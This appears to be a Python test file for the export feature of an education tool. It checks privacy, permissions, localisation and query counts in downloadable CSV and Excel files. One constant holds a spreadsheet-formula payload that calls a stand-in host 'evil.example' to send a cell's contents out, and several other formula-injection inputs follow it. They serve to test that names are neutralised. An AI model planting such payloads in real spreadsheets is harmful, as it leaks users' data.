"""A trainer takes along what the tool shows, and nothing else stands in the file."""

import re
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from sqlalchemy import delete, select, update

from lti_tool.models.figures import Figure, Moment
from lti_tool.models.people import Person
from lti_tool.models.readings import Reading
from lti_tool.models.tracks import Cohort
from lti_tool.services import launches
from tests.web.campus import ASSISTANT, LOOK_BACK, PREPARE, TRAINER, write
from tests.web.planning import asking, place
from tests.web.spreadsheets import parts_of_xlsx, rows_of_csv, texts_of_xlsx
from tests.web.statements import FEW, MANY, counted, let_launch, let_take_part

GOAL, KEPT = "Eerst horen wat iemand zoekt.", "Dit houd ik voor mijzelf."
RUN = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
FILES = ("people.csv", "figures.csv", "goals.csv", "all.xlsx", "all.xlsx?with=goals")


@pytest.fixture
def training(campus):
    """A training in which one learner prepared, let the trainer read her goal, and made a plan."""
    place(campus)
    browser, page = campus.open("sanne", PREPARE)
    write(browser, page, {"pre.goal": GOAL, "pre.share_trainer": "yes", "pre.application": KEPT})
    write(browser, browser.launch(LOOK_BACK))
    campus.open("youssef", PREPARE)
    return campus


@pytest.fixture
def trainer(training):
    """What the trainer asks."""
    return asking(training, training.sign_in(TRAINER))


def rename(campus, person, name):
    """What the LMS calls somebody from now on."""
    key = campus.work.keyring.of([person.key_id])[person.key_id]
    with campus.work.sessions.begin() as session:
        session.get_one(Person, person.id).name = launches.sealed_name(person, key, name)


def publish(campus, *cells):
    """Puts figures in the ledger of the group."""
    cohort = campus.only(Cohort)
    with campus.work.sessions.begin() as session:
        for question, cell, count, people in cells:
            session.add(
                Figure(
                    organisation_id=cohort.organisation_id, cohort_id=cohort.id, moment=Moment.LEADER,
                    taken_on=campus.today, question=question, cell=cell, count=count, people=people,
                )
            )  # fmt: skip


def test_the_page_says_what_can_be_taken_along_and_leads_to_each_file(trainer):
    page = trainer("after/export")

    links = re.findall(r'href="[^"]*/after/export/([^"]+)"', page.text)
    assert page.status_code == 200
    assert {link.replace("&amp;", "&") for link in links} == {*FILES}


def test_who_takes_part_stands_there_with_group_and_what_is_done(trainer):
    head, *rows = rows_of_csv(trainer("after/export/people.csv"))

    assert head == ["Groep", "Naam", "Voorbereiden", "Terugkijken en plan maken", "Krijgt mail"]
    assert sorted(rows) == [
        ["Groep 1", "Sanne de Wit", "Klaar", "Klaar", "ja"],
        ["Groep 1", "Youssef el Haddad", "Nog niet", "Nog niet", "ja"],
    ]


def test_a_file_holds_no_address_and_no_words_but_a_goal_that_was_let_be_read(trainer):
    files = {name: trainer(f"after/export/{name}") for name in FILES}

    said = {
        name: "".join(parts_of_xlsx(one).values()) if "xlsx" in name else one.content.decode()
        for name, one in files.items()
    }
    assert {one.status_code for one in files.values()} == {200}
    assert {name for name, text in said.items() if GOAL in text} == {"goals.csv", "all.xlsx?with=goals"}
    assert {
        name for name, text in said.items() if re.search(r"@\w|een inwoner belt", text) or KEPT in text
    } == set()


def test_a_goal_stands_without_the_name_of_its_writer(trainer):
    _, row = rows_of_csv(trainer("after/export/goals.csv"))

    assert row == ["Groep 1", GOAL, "", "1"]


def test_the_figures_are_those_of_the_ledger_and_no_others(training, trainer):
    before = rows_of_csv(trainer("after/export/figures.csv"))[1:]

    publish(training, ("people", "all", 24, 24), ("obstacle", "time", 14, 24), ("plan", "made", 24, 24))

    assert before == []
    assert rows_of_csv(trainer("after/export/figures.csv"))[1:] == [
        ["Groep 1", "Maakte een plan", "24", "24"],
        ["Groep 1", "In de weg: Te weinig tijd", "14", "24"],
    ]


def test_the_figures_of_a_small_group_are_words_in_a_file_too(training, trainer):
    publish(training, ("people", "all", 12, 12), ("obstacle", "time", 7, 12))

    _, row = rows_of_csv(trainer("after/export/figures.csv"))

    assert row == ["Groep 1", "In de weg: Te weinig tijd", "ongeveer de helft", ""]


@pytest.mark.parametrize(
    "name", [RUN, "+31612", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1+1", 'x";=1+1;"', "a\n=1"]
)
def test_no_name_of_anybody_becomes_a_formula_a_link_or_another_cell(training, trainer, name):
    person = next(one for one in training.all(Person) if one.sub == "1041")
    rename(training, person, name)

    rows = rows_of_csv(trainer("after/export/people.csv"))
    parts = parts_of_xlsx(trainer("after/export/all.xlsx"))

    assert {len(row) for row in rows} == {5}
    assert [cell for row in rows for cell in row if cell.lstrip()[:1] in "=+-@" and cell] == []
    assert [
        part for part, text in parts.items() if "<f>" in text or "<f " in text or "<hyperlink" in text
    ] == []


def test_in_excel_a_name_stands_as_it_is(training, trainer):
    rename(training, next(one for one in training.all(Person) if one.sub == "1041"), RUN)

    assert RUN in texts_of_xlsx(trainer("after/export/all.xlsx"))


def test_the_name_of_a_file_names_nobody_and_nothing_keeps_it(trainer):
    for name in FILES:
        headers = trainer(f"after/export/{name}").headers

        assert re.fullmatch(
            r'attachment; filename="beklijf(-\w+)?\.(csv|xlsx)"', headers["Content-Disposition"]
        )
        assert headers["Cache-Control"] == "no-store"


def test_taking_along_needs_a_launch_of_a_short_while_ago(trainer):
    with time_machine.travel(datetime.now(UTC) + timedelta(minutes=16)):
        answers = [trainer(f"after/export/{name}") for name in FILES]

    assert {one.status_code for one in answers} == {403}
    assert all("Open dit onderdeel nog eens" in one.text for one in answers)
    assert GOAL not in "".join(one.text for one in answers)


def test_taking_words_along_is_told_to_whose_they_are_and_names_alone_are_not(training, trainer):
    with training.work.sessions.begin() as session:
        session.execute(delete(Reading))
    for name in ("people.csv", "figures.csv", "all.xlsx"):
        trainer(f"after/export/{name}")
    before = training.all(Reading)

    trainer("after/export/all.xlsx?with=goals")

    assert before == []
    assert [row.what for row in training.all(Reading)] == ["pre.goal"]


def test_the_log_says_that_a_file_was_taken_and_nothing_that_stands_in_it(trainer, caplog):
    caplog.set_level("INFO", "beklijf")

    trainer("after/export/goals.csv")

    (line,) = [one.getMessage() for one in caplog.records if "training.exported" in one.getMessage()]
    assert "file=beklijf-goals.csv" in line
    assert GOAL not in caplog.text


def test_who_may_only_look_takes_nothing_along(training):
    browser = training.sign_in("youssef")
    training.next_role(ASSISTANT)
    ask = asking(training, browser)

    assert {ask(f"after/export/{name}".rstrip("/")).status_code for name in ("", *FILES)} == {403}


def test_a_file_speaks_the_language_of_its_reader(training):
    with training.work.sessions.begin() as session:
        session.execute(update(Person).values(locale="en", chose_locale=True))
    ask = asking(training, training.sign_in(TRAINER))

    assert rows_of_csv(ask("after/export/people.csv"))[0] == [
        "Group", "Name", "Prepare", "Look back and make a plan", "Mail reaches them",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("locale", "names"),
    [
        ("nl", ["beklijf-deelnemers.csv", "beklijf-getallen.csv", "beklijf-doelen.csv"]),
        ("en", ["beklijf-people.csv", "beklijf-figures.csv", "beklijf-goals.csv"]),
    ],
)
def test_a_file_is_called_in_the_language_of_its_reader(training, locale, names):
    with training.work.sessions.begin() as session:
        session.execute(update(Person).values(locale=locale, chose_locale=True))
    ask = asking(training, training.sign_in(TRAINER))

    files = [ask(f"after/export/{name}") for name in FILES[:3]]

    found = [file.headers["Content-Disposition"].partition("filename=")[2].strip('"') for file in files]
    assert found == names


def test_a_file_has_a_sheet_of_figures_only_once_there_are_any(training, trainer):
    before = trainer("after/export/all.xlsx")
    publish(training, ("plan", "made", 6, 12))
    after = trainer("after/export/all.xlsx")

    sheets = [parts_of_xlsx(file)["xl/workbook.xml"].count("<sheet ") for file in (before, after)]
    assert sheets == [1, 2]


def test_people_who_only_try_stand_in_no_file(training, trainer):
    with training.work.sessions.begin() as session:
        session.scalars(select(Person).where(Person.sub == "1041")).one().is_test = True

    assert "Sanne" not in trainer("after/export/people.csv").text
    assert len(rows_of_csv(trainer("after/export/goals.csv"))) == 1


def test_a_file_asks_as_often_for_sixty_as_for_three(campus):
    where = campus.place()
    let_launch(campus, 0, FEW)
    let_take_part(campus, where)
    ask = asking(campus, campus.sign_in(TRAINER))
    ask("after/export/all.xlsx?with=goals")
    with counted() as for_few:
        ask("after/export/all.xlsx?with=goals")
    let_launch(campus, FEW, MANY)
    let_take_part(campus, where)

    with counted() as for_many:
        file = ask("after/export/all.xlsx?with=goals")

    assert len({text for text in texts_of_xlsx(file) if text.startswith("Naam van")}) == MANY
    assert len(for_many) == len(for_few)
